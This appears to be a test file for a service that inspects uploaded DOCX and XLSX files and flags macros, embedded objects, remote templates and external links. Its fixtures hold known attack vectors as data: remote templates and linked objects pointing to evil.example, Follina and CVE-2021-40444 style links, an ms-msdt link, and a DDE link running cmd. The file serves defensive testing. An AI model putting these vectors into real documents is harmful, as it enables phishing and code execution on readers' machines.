// Macros, objects, templates, and links in the parts of DOCX and XLSX files.
import { describe, it } from 'vitest'
import { contentFaults } from '../../domain/file-kind.ts'
import { expectVerdict, type InspectedFile, macros, withType, word } from '../../tests/inspected-files.ts'
import * as make from '../../tests/samples.ts'

const template = (target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
})
/** Relationships as in any part's `.rels`. */
const rels = (
  type: string,
  target: string,
  { name = 'word/_rels/document.xml.rels', mode = 'TargetMode="External"' } = {},
) => ({
  name,
  content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`,
})
const wordWith = (...parts: make.ZipEntry[]) => make.zip([...word, ...parts])
const inUtf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const excel = make.xlsxParts()
const externalLink = (content: string) =>
  withType(
    excel,
    'xl/externalLinks/externalLink1.xml',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
    content,
  )

const docx: InspectedFile[] = [
  ['a DOCM renamed DOCX', make.zip([...make.docxParts('Hi', true), macros]), contentFaults.macros],
  ['a DOCX with macros inside', make.zip([...word, macros]), contentFaults.macros],
  [
    'a DOCX with an embedded object',
    make.zip([...word, { name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    contentFaults.objects,
  ],
  [
    'a DOCX with its template elsewhere',
    make.zip([...word, template('https://evil.example/t.dotm')]),
    contentFaults.template,
  ],
  [
    'a DOCX with its template on a share',
    make.zip([...word, template('\\\\evil.example\\t.dotm')]),
    contentFaults.template,
  ],
  [
    "a DOCX with its template on its writer's disk",
    make.zip([...word, template('file:///C:\\Users\\a\\Normal.dotm')]),
    'docx',
  ],
  [
    'a DOCX with its template elsewhere, in character references',
    wordWith(template('&#104;ttps://evil.example/t.dotm')),
    contentFaults.template,
  ],
  [
    'a DOCX whose template is spelled in character references',
    wordWith(rels('attached&#84;emplate', 'https://evil.example/t.dotm', { name: 'word/_rels/settings2.xml.rels' })),
    contentFaults.template,
  ],
  ['a DOCX with a template by WebDAV', wordWith(template('file://evil.example/t.dotm')), contentFaults.template],
  [
    'a DOCX with a linked object (Follina)',
    wordWith(rels('oleObject', 'https://evil.example/x.html!')),
    contentFaults.external,
  ],
  [
    'a DOCX with an mhtml link (CVE-2021-40444)',
    wordWith(rels('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html')),
    contentFaults.external,
  ],
  [
    'a DOCX with an mhtml link that is not said to be external',
    wordWith(rels('oleObject', 'mhtml:https://evil.example/x', { mode: '' })),
    contentFaults.external,
  ],
  ['a DOCX with a picture on a share', wordWith(rels('image', '\\\\evil.example\\a.png')), contentFaults.external],
  ['a DOCX with a picture on a website', wordWith(rels('image', 'https://evil.example/a.png')), contentFaults.external],
  [
    'a DOCX with a picture elsewhere, in a part in capitals',
    wordWith(rels('image', 'https://evil.example/a.png', { name: 'Word/_RELS/Footer1.xml.RELS' })),
    contentFaults.external,
  ],
  [
    'a DOCX with relationships in UTF-16',
    wordWith({
      name: 'word/_rels/document.xml.rels',
      content: inUtf16(rels('image', 'https://evil.example/a.png').content),
    }),
    contentFaults.external,
  ],
  [
    'a DOCX with links to a website and to an email address',
    wordWith(
      rels('hyperlink', 'https://example.com/'),
      rels('hyperlink', 'mailto:ann@example.com', { name: 'word/_rels/footer1.xml.rels' }),
    ),
    'docx',
  ],
  ['a DOCX with a link to a share', wordWith(rels('hyperlink', '\\\\evil.example\\share')), contentFaults.fileLink],
  ['a DOCX with a link to a file', wordWith(rels('hyperlink', 'file:///C:/a.exe')), contentFaults.fileLink],
  ['a DOCX with a link to a script', wordWith(rels('hyperlink', 'ms-msdt:/id PCWDiagnostic')), contentFaults.fileLink],
  ['a DOCX with an inserted web page', wordWith(rels('aFChunk', 'a.html', { mode: '' })), contentFaults.inserted],
  ['a DOCX with a web page as a part', withType(word, 'word/a.html', 'text/html'), contentFaults.inserted],
  [
    'a DOCX with an internal object',
    wordWith(rels('oleObject', 'embeddings/a.dat', { mode: '' })),
    contentFaults.objects,
  ],
  [
    'a DOCX with ActiveX',
    withType(word, 'word/controls/a.xml', 'application/vnd.ms-office.activeX+xml'),
    contentFaults.objects,
  ],
  ['a DOCX with a workbook of a chart', wordWith({ name: 'word/embeddings/a.xlsx', content: make.xlsx() }), 'docx'],
  [
    'a DOCX with a workbook that has macros',
    wordWith({ name: 'word/embeddings/a.xlsm', content: make.xlsx() }),
    contentFaults.macros,
  ],
  [
    'a DOCX with a workbook that hides macros',
    wordWith({
      name: 'word/embeddings/a.xlsx',
      content: make.zip([...excel, { name: 'xl/vbaProject.bin', content: 'x' }]),
    }),
    contentFaults.macros,
  ],
  [
    'a DOCX with a document within a document within it',
    wordWith({
      name: 'word/embeddings/a.docx',
      content: wordWith({ name: 'word/embeddings/b.docx', content: make.docx() }),
    }),
    contentFaults.objects,
  ],
]

const xlsx: InspectedFile[] = [
  [
    'an XLSX with macro sheets',
    make.zip([...make.xlsxParts(), { name: 'xl/macrosheets/sheet1.xml', content: 'x' }]),
    contentFaults.macros,
  ],
  [
    'an XLSX with a DDE link',
    externalLink('<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    contentFaults.dde,
  ],
  [
    'an XLSX with values from another workbook',
    make.zip([
      ...excel,
      rels('externalLinkPath', 'file:///C:/b.xlsx', { name: 'xl/externalLinks/_rels/externalLink1.xml.rels' }),
    ]),
    contentFaults.workbookLink,
  ],
  [
    'an XLSX with a sheet of macros under another name',
    withType(excel, 'xl/worksheets/sheet9.xml', 'application/vnd.ms-excel.macrosheet+xml'),
    contentFaults.macros,
  ],
]

describe('D1, D3: inspecting an upload', () => {
  it.each(docx)('%s (a.docx)', (_title, bytes, verdict) => expectVerdict('a.docx', bytes, verdict))

  it.each(xlsx)('%s (a.xlsx)', (_title, bytes, verdict) => expectVerdict('a.xlsx', bytes, verdict))
})
